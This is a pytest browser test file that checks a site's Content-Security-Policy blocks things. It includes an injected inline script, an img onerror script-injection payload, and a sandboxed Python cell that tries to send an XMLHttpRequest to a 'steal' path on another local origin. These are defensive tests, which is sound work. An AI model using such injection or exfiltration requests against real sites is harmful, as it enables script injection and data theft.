"""The Content-Security-Policy in Chromium: sent with pages and workers, and enforced.

Every browser test runs under the policy (the ``page`` fixture fails a test whose page
had anything refused); these tests check that the policy really refuses things.
"""

from __future__ import annotations

import http.server
import threading

import pytest

from tests.browser.helpers import forget_violations, open_page, run_cell

pytestmark = pytest.mark.browser


def test_pages_and_the_worker_are_served_with_their_policies(page, site_url):
    response = page.goto(site_url + "games/golf/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    worker = page.request.get(site_url + "assets/playground/worker.mjs")
    assert "default-src 'none'" in worker.headers["content-security-policy"]


def test_an_injected_inline_script_does_not_run(page, site_url):
    open_page(page, site_url + "games/golf/")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.__ran = true";
        document.body.append(script);
        const div = document.createElement("div");
        div.innerHTML = '<img src="data:," onerror="window.__ran = true">';
        document.body.append(div);
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__ran") is None
    refused = page.evaluate("window.__cspViolations")
    assert any(v.startswith("script-src-elem") for v in refused)
    assert any(v.startswith("script-src-attr") for v in refused)
    forget_violations(page)


@pytest.fixture
def other_host():
    """Another origin (127.0.0.1 on another port) that records every request it gets."""
    hits: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"secret")

        def log_message(self, *args) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/", hits
    httpd.shutdown()
    httpd.server_close()


def test_a_python_cell_cannot_reach_another_host(page, site_url, other_host):
    address, hits = other_host
    open_page(page, site_url + "games/golf/")
    cell = run_cell(page, (
        "import js\n"
        "request = js.XMLHttpRequest.new()\n"
        "try:\n"
        f"    request.open('GET', '{address}steal', False)\n"
        "    request.send()\n"
        "    print('answered:', request.responseText)\n"
        "except Exception as error:\n"
        "    print('refused:', error)\n"))
    assert "refused:" in cell.locator(".rb-python__output").inner_text()
    assert hits == []  # the other host never heard of it
    forget_violations(page)
